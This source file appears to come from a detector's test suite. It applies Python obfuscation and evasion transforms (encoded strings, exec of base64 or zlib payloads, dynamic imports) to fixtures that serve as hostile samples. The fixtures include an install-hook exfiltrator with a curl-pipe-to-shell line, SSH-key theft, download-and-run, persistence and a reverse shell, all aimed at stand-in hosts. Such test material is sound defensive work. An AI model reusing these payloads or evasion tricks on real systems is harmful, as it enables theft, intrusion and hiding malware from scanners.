/**
 * Disguises for Python, laid over source text at the places the syntax tree gives. The minifier and the obfuscators
 * are programs of their own: they are used when DISGUISE_PYTHON names a Python that has them (`pip install python-minifier
 * pyobfuscator python-obfuscator` in a venv of its own). They turn text into text; still, give them fixtures only.
 */
import { execFileSync } from 'node:child_process';
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import process from 'node:process';
import { deflateSync } from 'node:zlib';
import { loadParser, type Node } from '../../lib/behavior/lower/python-tree.js';
import type { OpenedArtifact } from '../../lib/types.js';
import { pythonArtifact } from '../behavior/python-sequence-helper.js';
import type { Disguise } from './disguises.js';

interface Edit {
  readonly start: number;
  readonly end: number;
  readonly text: string;
}

async function edits(
  source: string,
  visit: (node: Node, parents: readonly Node[]) => Edit | undefined,
): Promise<string | undefined> {
  const parser = await loadParser();
  const { root, hasError } = parser.parse(source);
  if (hasError) return undefined;
  const found: Edit[] = [];
  const walk = (node: Node, parents: readonly Node[]): void => {
    if (parents.length > 300) return;
    const edit = visit(node, parents);
    if (edit !== undefined) {
      found.push(edit);
      return;
    }
    for (const child of node.children) walk(child, [...parents, node]);
  };
  walk(root, []);
  let out = '';
  let at = 0;
  for (const edit of found.sort((a, b) => a.start - b.start)) {
    out += source.slice(at, edit.start) + edit.text;
    at = edit.end;
  }
  return out + source.slice(at);
}

/** Replaces plain string literals that stand as expressions; f-strings, bytes, docstrings and pieces stay. */
function strings(replace: (text: string) => string): Disguise['apply'] {
  return (source) =>
    edits(source, (node, parents) => {
      const parent = parents.at(-1);
      if (node.type !== 'string' || parent === undefined) return undefined;
      if (
        /^(expression_statement|concatenated_string|interpolation|case_pattern|print_statement|exec_statement)$/.test(
          parent.type,
        )
      )
        return undefined;
      const literal = source.slice(node.start, node.end);
      const match = /^(["'])([^"'\\\n{}]{3,400})\1$/.exec(literal);
      if (match === null) return undefined;
      return { start: node.start, end: node.end, text: replace(match[2]!) };
    });
}

const bytes = (text: string): Buffer => Buffer.from(text, 'utf8');
const quoted = (text: string): string => JSON.stringify(text);

/** `x.name(` → `getattr(x, …)(`. */
function attributes(spell: (name: string) => string): Disguise['apply'] {
  return async (source) => {
    const changed = await edits(source, (node, parents) => {
      const parent = parents.at(-1);
      if (node.type !== 'attribute' || parent?.type !== 'call' || node.field !== 'function') return undefined;
      const object = node.children.find((c) => c.field === 'object');
      const name = node.children.find((c) => c.field === 'attribute');
      if (object === undefined || name === undefined || object.type !== 'identifier') return undefined;
      const text = source.slice(name.start, name.end);
      return {
        start: node.start,
        end: node.end,
        text: `getattr(${source.slice(object.start, object.end)}, ${spell(text)})`,
      };
    });
    return changed;
  };
}

/** Top-level and nested `import x` and `from x import y` as calls. */
const dynamicImports: Disguise['apply'] = (source) =>
  edits(source, (node) => {
    const text = source.slice(node.start, node.end);
    if (node.type === 'import_statement') {
      const match = /^import\s+(\w+)$/.exec(text);
      if (match !== null)
        return {
          start: node.start,
          end: node.end,
          text: `${match[1]} = __import__(${quoted(match[1]!.slice(0, 1))} + ${quoted(match[1]!.slice(1))})`,
        };
      const named = /^import\s+([\w.]+)\s+as\s+(\w+)$/.exec(text);
      if (named !== null)
        return {
          start: node.start,
          end: node.end,
          text: `${named[2]} = __import__('importlib').import_module(${quoted(named[1]!)})`,
        };
    }
    const from = /^from\s+([A-Za-z_][\w.]*)\s+import\s+(\w+)(?:\s+as\s+(\w+))?$/.exec(text);
    if (node.type !== 'import_from_statement' || from === null) return undefined;
    return {
      start: node.start,
      end: node.end,
      text: `${from[3] ?? from[2]} = getattr(__import__('importlib').import_module(${quoted(from[1]!)}), ${quoted(from[2]!)})`,
    };
  });

/** Every imported module under another name. */
const aliases: Disguise['apply'] = async (source) => {
  const names = new Map<string, string>();
  for (const match of source.matchAll(/^import (\w+)$/gm)) names.set(match[1]!, `m${names.size}_`);
  return edits(source, (node, parents) => {
    if (node.type === 'import_statement') {
      const match = /^import\s+(\w+)$/.exec(source.slice(node.start, node.end));
      const to = names.get(match?.[1] ?? '');
      return to === undefined
        ? undefined
        : { start: node.start, end: node.end, text: `import ${match![1]} as ${to}` };
    }
    if (
      node.type !== 'identifier' ||
      node.field === 'attribute' ||
      parents.at(-1)?.type === 'keyword_argument'
    )
      return undefined;
    const to = names.get(source.slice(node.start, node.end));
    return to === undefined ? undefined : { start: node.start, end: node.end, text: to };
  });
};

const parses = async (source: string): Promise<boolean> => !(await loadParser()).parse(source).hasError;

function wrapped(wrap: (source: string) => string): Disguise['apply'] {
  return async (source) => ((await parses(source)) ? wrap(source) : undefined);
}

const indented = (source: string): string =>
  source
    .split('\n')
    .map((line) => (line === '' ? line : `    ${line}`))
    .join('\n');
/** Moving code into a function changes multi-line strings and forbids star imports. */
const movable = (source: string): boolean => !/"""|'''|\\\n|^from .* import \*/m.test(source);

function minified(flags: readonly string[]): Disguise['apply'] {
  return (source) => {
    const python = process.env.DISGUISE_PYTHON;
    if (python === undefined) return undefined;
    try {
      return execFileSync(python, ['-m', 'python_minifier', ...flags, '-'], {
        input: source,
        encoding: 'utf8',
        stdio: ['pipe', 'pipe', 'ignore'],
      });
    } catch {
      return undefined;
    }
  };
}

/** PyObfuscator: level 2 renames and encrypts strings, 3 to 6 lay gzip, xor, base85 and escapes over that. */
function obfuscated(level: number): Disguise['apply'] {
  return async (source) => {
    const python = process.env.DISGUISE_PYTHON;
    if (python === undefined) return undefined;
    const folder = await mkdtemp(join(tmpdir(), 'disguise-'));
    try {
      await writeFile(join(folder, 'in.py'), source);
      const args = ['-m', 'PyObfuscator', '-l', String(level), '-o', 'out.py', 'in.py'];
      execFileSync(python, args, { cwd: folder, stdio: 'ignore', timeout: 60_000 });
      return await readFile(join(folder, 'out.py'), 'utf8');
    } catch {
      return undefined;
    } finally {
      await rm(folder, { recursive: true, force: true });
    }
  };
}

/** python-obfuscator with all its techniques. */
const reobfuscated: Disguise['apply'] = (source) => {
  const python = process.env.DISGUISE_PYTHON;
  if (python === undefined) return undefined;
  const program =
    'import sys; from python_obfuscator import Obfuscator; print(Obfuscator().obfuscate(sys.stdin.read()))';
  try {
    return execFileSync(python, ['-c', program], {
      input: source,
      encoding: 'utf8',
      stdio: ['pipe', 'pipe', 'ignore'],
    });
  } catch {
    return undefined;
  }
};

export const pythonDisguises: readonly Disguise[] = [
  {
    name: 'strings split',
    kind: 'simple',
    apply: strings((s) => `(${quoted(s.slice(0, s.length >> 1))} + ${quoted(s.slice(s.length >> 1))})`),
  },
  {
    name: 'strings joined',
    kind: 'simple',
    apply: strings((s) => `"".join([${[...s].map(quoted).join(', ')}])`),
  },
  {
    name: 'strings reversed',
    kind: 'simple',
    apply: strings((s) => `${quoted([...s].reverse().join(''))}[::-1]`),
  },
  {
    name: 'strings in hex',
    kind: 'simple',
    apply: strings((s) => `bytes.fromhex(${quoted(bytes(s).toString('hex'))}).decode()`),
  },
  {
    name: 'strings in escapes',
    kind: 'simple',
    apply: strings(
      (s) =>
        `"${[...bytes(s)].every((b) => b < 128) ? [...bytes(s)].map((b) => `\\x${b.toString(16).padStart(2, '0')}`).join('') : s}"`,
    ),
  },
  {
    name: 'strings in base64',
    kind: 'simple',
    apply: strings((s) => `__import__("base64").b64decode(${quoted(bytes(s).toString('base64'))}).decode()`),
  },
  {
    name: 'strings as bytes',
    kind: 'simple',
    apply: strings((s) => `bytes([${[...bytes(s)].join(', ')}]).decode()`),
  },
  {
    name: 'strings as chr',
    kind: 'simple',
    apply: strings((s) => `"".join(map(chr, [${[...s].map((c) => c.codePointAt(0)).join(', ')}]))`),
  },
  {
    name: 'strings by xor',
    kind: 'simple',
    apply: strings(
      (s) =>
        `bytes(b ^ 23 for b in bytes.fromhex(${quoted(Buffer.from([...bytes(s)].map((b) => b ^ 23)).toString('hex'))})).decode()`,
    ),
  },
  { name: 'getattr', kind: 'simple', apply: attributes(quoted) },
  {
    name: 'getattr, name split',
    kind: 'simple',
    apply: attributes((n) => `${quoted(n.slice(0, 1))} + ${quoted(n.slice(1))}`),
  },
  { name: 'modules aliased', kind: 'simple', apply: aliases },
  { name: 'dynamic import', kind: 'simple', apply: dynamicImports },
  {
    name: 'dead code in front',
    kind: 'simple',
    apply: wrapped((s) =>
      /^from __future__/m.test(s)
        ? s
        : `${Array.from({ length: 400 }, (_, i) => `def unused_${i}(a, b=${i}):\n    return [a + str(b) for b in range(${i})]\nvalue_${i} = "text number ${i}"`).join('\n')}\n${s}`,
    ),
  },
  {
    name: 'moved to a function nobody calls',
    kind: 'simple',
    apply: wrapped((s) => (movable(s) ? `def later():\n${indented(s)}\n    pass\n` : s)),
  },
  {
    name: 'moved to a thread',
    kind: 'simple',
    apply: wrapped((s) =>
      movable(s)
        ? `def later():\n${indented(s)}\n    pass\nimport threading\nthreading.Thread(target=later).start()\n`
        : s,
    ),
  },
  { name: 'minified (python-minifier)', kind: 'whole', apply: minified([]) },
  {
    name: 'minified, names renamed',
    kind: 'whole',
    apply: minified(['--rename-globals', '--remove-literal-statements']),
  },
  { name: 'exec of text', kind: 'whole', apply: wrapped((s) => `exec(${quoted(s)})`) },
  {
    name: 'exec of base64',
    kind: 'whole',
    apply: wrapped((s) => `import base64\nexec(base64.b64decode("${bytes(s).toString('base64')}"))`),
  },
  {
    name: 'exec of compiled base64',
    kind: 'whole',
    apply: wrapped(
      (s) =>
        `import base64\nexec(compile(base64.b64decode("${bytes(s).toString('base64')}"), "<string>", "exec"))`,
    ),
  },
  {
    name: 'exec of zlib in base64',
    kind: 'whole',
    apply: wrapped(
      (s) =>
        `_ = lambda __: __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'${[...deflateSync(bytes(s)).toString('base64')].reverse().join('')}'))`,
    ),
  },
  {
    name: 'exec of character codes',
    kind: 'whole',
    apply: wrapped((s) =>
      s.length > 20_000
        ? s
        : `exec("".join(chr(c - 3) for c in [${[...s].map((c) => (c.codePointAt(0) ?? 0) + 3).join(',')}]))`,
    ),
  },
  ...[2, 3, 4, 5, 6].map((level) => ({
    name: `PyObfuscator, level ${level}`,
    kind: 'whole' as const,
    apply: obfuscated(level),
  })),
  { name: 'python-obfuscator', kind: 'whole', apply: reobfuscated },
];

/** Behaviour-rich code of our own: hosts that exist nowhere, nothing that is run. */
export async function pythonFixtures(): Promise<readonly OpenedArtifact[]> {
  return FIXTURES.map((source, i) =>
    pythonArtifact(i % 2 === 0 ? { 'setup.py': source } : { 'p/__init__.py': source }),
  );
}

const FIXTURES: readonly string[] = [
  `import os
import socket
import getpass
import requests
from setuptools import setup
from setuptools.command.install import install

class Custom(install):
    def run(self):
        data = {"host": socket.gethostname(), "user": getpass.getuser(), "cwd": os.getcwd()}
        requests.post("https://collect.invalid/c", json=data)
        os.system("curl https://collect.invalid/s | sh")
        install.run(self)

setup(name="fixture", cmdclass={"install": Custom})
`,
  `import os
import subprocess
import urllib.request as loader
import base64

def fetch(url, path):
    loader.urlretrieve(url, path)
    os.chmod(path, 0o755)
    subprocess.Popen([path], stdout=subprocess.DEVNULL)

target = os.path.join(os.environ["TEMP"], "update.exe")
fetch("http://198.51.100.7/update.exe", target)
key = open(os.path.expanduser("~/.ssh/id_rsa")).read()
body = base64.b64encode(key.encode())
loader.urlopen("https://collect.invalid/k", data=body)
`,
  `import os
import sys
import json
import platform
import shutil
import threading
import urllib.request

def send(values):
    request = urllib.request.Request("https://hooks.invalid/api", data=json.dumps(values).encode())
    urllib.request.urlopen(request)

def work():
    values = dict(os.environ)
    values["system"] = platform.platform()
    send(values)
    if os.path.exists("/.dockerenv"):
        return
    shutil.copy(sys.argv[0], os.path.expanduser("~/.config/autostart/x.desktop"))
    shutil.rmtree("/var/lib/fixture")

threading.Thread(target=work).start()
`,
  `import os
import socket
import subprocess
import time

class Client:
    def __init__(self, host, port):
        self.socket = socket.socket()
        self.socket.connect((host, port))

    def loop(self):
        while True:
            command = self.socket.recv(1024).decode()
            result = subprocess.check_output(command, shell=True)
            self.socket.send(result)
            time.sleep(5)

try:
    Client("198.51.100.9", 4444).loop()
except Exception:
    pass
with open(os.path.expanduser("~/.bashrc"), "a") as f:
    f.write("python3 -m fixture &")
`,
];
